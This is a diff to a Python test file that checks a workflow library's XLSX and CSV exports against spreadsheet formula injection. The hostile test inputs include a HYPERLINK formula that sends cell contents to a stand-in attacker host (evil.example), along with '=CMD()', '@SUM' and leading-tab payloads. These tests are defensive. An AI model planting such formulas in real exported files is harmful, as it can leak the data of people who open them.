@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import subprocess
 import sys
@@ -27,12 +28,13 @@ from kmbase_workflow.exports import (
     recommendation_rows,
 )
 from kmbase_workflow.policy import load_policy
-from kmbase_workflow.records import Education, ResidentEnterprise, StaffMember
+from kmbase_workflow.records import Application, Education, ResidentEnterprise, StaffMember
 from kmbase_workflow.workflow import Workflow
 from lifecycle_helpers import (
     APPLICATION,
     BUREAU,
     DISTRICT,
+    GOOD_RECOMMENDATION,
     ROUND_CLOSES,
     ROUND_OPENS,
     Harness,
@@ -721,3 +723,158 @@ def test_importing_the_library_does_not_import_openpyxl() -> None:
         "assert 'openpyxl' not in sys.modules, 'openpyxl imported'"
     )
     subprocess.run([sys.executable, "-c", code], check=True)
+
+
+# -- data is never code (issue 12: safe exports) ---------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+HOSTILE = (HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "=1", "#N/A", "#DIV/0!", "\t=1")
+"""Text an attacker might type: formulas, Excel's error codes, a leading tab."""
+
+
+def hostile_application() -> Application:
+    """The eligible application with a formula or an error code in every kind of text field."""
+    a = APPLICATION
+    h = iter(HOSTILE * 20)
+    staff = (
+        tuple(
+            attrs.evolve(
+                member,
+                name=next(h),
+                position=next(h),
+                school_and_major=next(h),
+                qualification=next(h),
+                qualification_issuer=next(h),
+                phone=next(h),
+            )
+            for member in a.staff[:3]
+        )
+        + a.staff[3:]
+    )
+    residents = (
+        attrs.evolve(
+            a.residents[0],
+            name=HYPERLINK,
+            main_business="=1",
+            industry="@x",
+            contact_person="+1",
+            contact_phone="-1",
+        ),
+        *a.residents[1:],
+    )
+    services = {
+        key: attrs.evolve(figures, description=HYPERLINK) for key, figures in a.services.items()
+    }
+    survey = (
+        attrs.evolve(
+            a.satisfaction_survey[0],
+            enterprise=HYPERLINK,
+            services="=1",
+            contact_person="+1",
+            contact_phone="-1",
+        ),
+        *a.satisfaction_survey[1:],
+    )
+    agencies = tuple(attrs.evolve(agency, name=HYPERLINK) for agency in a.agencies)
+    return attrs.evolve(
+        a,
+        base=attrs.evolve(
+            a.base,
+            name=HYPERLINK,
+            address="=A1",
+            contact_person="+1",
+            contact_phone="-1",
+            facilities="@x",
+            website="=x",
+            email="#N/A",
+            leading_industries=("=1", *a.base.leading_industries[1:]),
+        ),
+        operator=attrs.evolve(
+            a.operator,
+            name="=CMD()",
+            legal_representative="@x",
+            nature="-1",
+            registered_address="+1",
+        ),
+        staff=staff,
+        residents=residents,
+        services=services,
+        satisfaction_survey=survey,
+        agencies=agencies,
+        qualifications="=1",
+        government_support="=2",
+        honours="=3",
+    )
+
+
+def formula_cells(path: Path) -> list[str]:
+    """Every cell of every sheet that is a formula or an error, as SHEET!A1."""
+    workbook = openpyxl.load_workbook(path)
+    return [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type in ("f", "e")
+    ]
+
+
+def all_values(path: Path) -> set[object]:
+    workbook = openpyxl.load_workbook(path)
+    return {
+        cell.value
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    }
+
+
+def test_application_tables_write_every_cell_from_data_as_text(tmp_path: Path) -> None:
+    path = tmp_path / "附件1.xlsx"
+    export_application_tables(hostile_application(), path)
+    assert formula_cells(path) == []
+    values = all_values(path)
+    for text in (HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "#N/A", "#DIV/0!"):
+        assert text in values
+
+
+def test_recommendation_table_writes_every_cell_from_data_as_text(tmp_path: Path) -> None:
+    h = harness()
+    hostile = hostile_application()
+    step_case(h, "a", "declare", hostile)
+    h.workflow.recommend(
+        "a",
+        DISTRICT,
+        attrs.evolve(GOOD_RECOMMENDATION, opinion="=1+1"),
+    )
+    step_case(h, "b", "declare", other_base("=2+2"))
+    h.workflow.decline("b", DISTRICT, "@SUM(1)")
+    path = tmp_path / "推荐汇总表.xlsx"
+    export_recommendation_table(
+        h.workflow, "五华区", 2025, path, filled_by="=x", phone="+1", unit="=y"
+    )
+    assert formula_cells(path) == []
+    values = all_values(path)
+    assert {HYPERLINK, "=1+1", "=2+2", "@SUM(1)", "=CMD()", "=A1", "+1", "-1"} <= values
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK])
+def test_csv_neutralises_a_leading_formula_character(text: str, tmp_path: Path) -> None:
+    member = attrs.evolve(APPLICATION.staff[0], name=text, position=text)
+    application = attrs.evolve(APPLICATION, staff=(member,))
+    path = tmp_path / "staff.csv"
+    export_staff(application, path)
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[1][1] == "'" + text
+    assert rows[1][2] == "'" + text
+    # What the guard added, the reader takes away: the table reads back as it was.
+    assert read_staff(path) == (member,)
+
+
+def test_csv_leaves_ordinary_text_and_numbers_alone(tmp_path: Path) -> None:
+    path = tmp_path / "roster.csv"
+    export_roster(APPLICATION, path)
+    text = path.read_text(encoding="utf-8-sig")
+    assert "'" not in text
